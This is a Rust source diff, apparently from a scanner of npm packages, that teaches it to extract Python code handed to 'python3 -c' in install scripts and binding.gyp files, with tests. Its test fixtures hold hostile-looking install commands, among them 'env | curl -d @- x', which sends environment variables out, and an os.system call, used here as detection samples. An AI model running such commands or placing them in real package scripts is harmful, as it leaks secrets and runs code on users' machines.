@@ -11,7 +11,7 @@
 //! parsers keep the last) shows both commands, and a manifest on one line works as well.
 
 use super::LIFECYCLE;
-use super::node_eval::{mentions_runtime, node_eval_ranges};
+use super::node_eval::{mentions_runtime, node_eval_ranges, python_eval_ranges};
 use super::node_json;
 use super::on_demand::reached_on_install;
 use crate::common::strip_bom;
@@ -29,6 +29,8 @@ pub struct InstallScriptView {
     /// The same layout with only the code those commands hand to a JavaScript runtime
     /// (`node -e "..."`); `None` when they hand it none.
     pub javascript: Option<Vec<u8>>,
+    /// The same layout with only the code they hand to Python (`python3 -c "..."`).
+    pub python: Option<Vec<u8>>,
 }
 
 /// The install-time view of an npm package's manifest; `None` when no script runs on
@@ -57,6 +59,7 @@ fn install_script_view(data: &[u8]) -> Option<InstallScriptView> {
         .collect();
     let mut shell = blank.clone();
     let mut javascript: Option<Vec<u8>> = None;
+    let mut python: Option<Vec<u8>> = None;
     let mut any = false;
     for (name, span) in script_spans(data) {
         if !run.contains(&name) {
@@ -81,9 +84,18 @@ fn install_script_view(data: &[u8]) -> Option<InstallScriptView> {
                 neutralise_comments(&mut js[at]);
             }
         }
+        for code in python_eval_ranges(command) {
+            let py = python.get_or_insert_with(|| blank.clone());
+            let at = span.start + code.start..span.start + code.end;
+            py[at].copy_from_slice(&command[code]);
+        }
         any = true;
     }
-    any.then_some(InstallScriptView { shell, javascript })
+    any.then_some(InstallScriptView {
+        shell,
+        javascript,
+        python,
+    })
 }
 
 /// The JavaScript a `binding.gyp` (or `.gypi`) hands to a runtime in its command
@@ -104,25 +116,10 @@ pub fn gyp_javascript_view(data: &[u8]) -> Option<Vec<u8>> {
             Some(body) => (body, &b"\n"[..]),
             None => (line, &b""[..]),
         };
-        let mut plain = Vec::with_capacity(body.len());
-        let mut i = 0;
-        while i < body.len() {
-            if body[i] == b'\\' && matches!(body.get(i + 1), Some(b'\'' | b'"')) {
-                i += 1;
-            }
-            plain.push(body[i]);
-            i += 1;
-        }
-        plain.resize(body.len(), b' ');
+        let plain = gyp_unescaped(body);
         let mut code = vec![b' '; body.len()];
         if mentions_runtime(&plain) {
-            // The command starts after the expansion's `<!(` or `<!@(`.
-            let command_start = memchr::memmem::find(&plain, b"<!").map_or(0, |at| {
-                at + plain[at..]
-                    .iter()
-                    .position(|&b| b == b'(')
-                    .map_or(2, |p| p + 1)
-            });
+            let command_start = command_start(&plain);
             let command = &plain[command_start..];
             let ranges = node_eval_ranges(command);
             if ranges.is_empty() {
@@ -138,6 +135,57 @@ pub fn gyp_javascript_view(data: &[u8]) -> Option<Vec<u8>> {
         view.extend_from_slice(end);
     }
     Some(view)
+}
+
+/// The Python a `binding.gyp` (or `.gypi`) hands to `python -c` in its command
+/// expansions, laid out as [`gyp_javascript_view`] lays out JavaScript; `None` when it
+/// hands it none.
+pub fn gyp_python_view(data: &[u8]) -> Option<Vec<u8>> {
+    let mut view = Vec::with_capacity(data.len());
+    let mut any = false;
+    for line in data.split_inclusive(|&b| b == b'\n') {
+        let (body, end) = match line.strip_suffix(b"\n") {
+            Some(body) => (body, &b"\n"[..]),
+            None => (line, &b""[..]),
+        };
+        let plain = gyp_unescaped(body);
+        let mut code = vec![b' '; body.len()];
+        let start = command_start(&plain);
+        for range in python_eval_ranges(&plain[start..]) {
+            let at = start + range.start..start + range.end;
+            code[at.clone()].copy_from_slice(&plain[at]);
+            any = true;
+        }
+        view.extend_from_slice(&code);
+        view.extend_from_slice(end);
+    }
+    any.then_some(view)
+}
+
+/// Where the command of a gyp line's expansion starts: after its `<!(` or `<!@(`, else
+/// at the line's start (an action's command list).
+fn command_start(line: &[u8]) -> usize {
+    memchr::memmem::find(line, b"<!").map_or(0, |at| {
+        at + line[at..]
+            .iter()
+            .position(|&b| b == b'(')
+            .map_or(2, |p| p + 1)
+    })
+}
+
+/// A gyp line with its string escapes (`\\'`) undone, padded back to its length.
+fn gyp_unescaped(body: &[u8]) -> Vec<u8> {
+    let mut plain = Vec::with_capacity(body.len());
+    let mut i = 0;
+    while i < body.len() {
+        if body[i] == b'\\' && matches!(body.get(i + 1), Some(b'\'' | b'"')) {
+            i += 1;
+        }
+        plain.push(body[i]);
+        i += 1;
+    }
+    plain.resize(body.len(), b' ');
+    plain
 }
 
 /// The scripts npm runs on install: the lifecycle hooks present and every script they
@@ -395,6 +443,20 @@ mod tests {
         let v = view("{\"scripts\": {\"postinstall\": \"echo a\\nenv | curl -d @- x\"}}").unwrap();
         assert!(v.contains("echo a;env | curl -d @- x"), "{v}");
         assert_eq!(v.lines().count(), 1);
+    }
+
+    #[test]
+    fn python_handed_code_on_install_is_cut_out() {
+        let v = install_script_view(
+            br#"{"scripts": {"preinstall": "python3 -c \"import os; print(os.environ)\" || true"}}"#,
+        )
+        .unwrap();
+        let py = String::from_utf8(v.python.unwrap()).unwrap();
+        assert_eq!(py.trim(), "import os; print(os.environ)");
+        let gyp = b"{ 'v': '<!(python3 -c \"import os; os.system(\\'id\\')\")' }\n";
+        let view = String::from_utf8(super::gyp_python_view(gyp).unwrap()).unwrap();
+        assert_eq!(view.trim(), "import os; os.system('id')");
+        assert_eq!(super::gyp_python_view(b"{ 'x': '<!(node -e 1)' }"), None);
     }
 
     #[test]
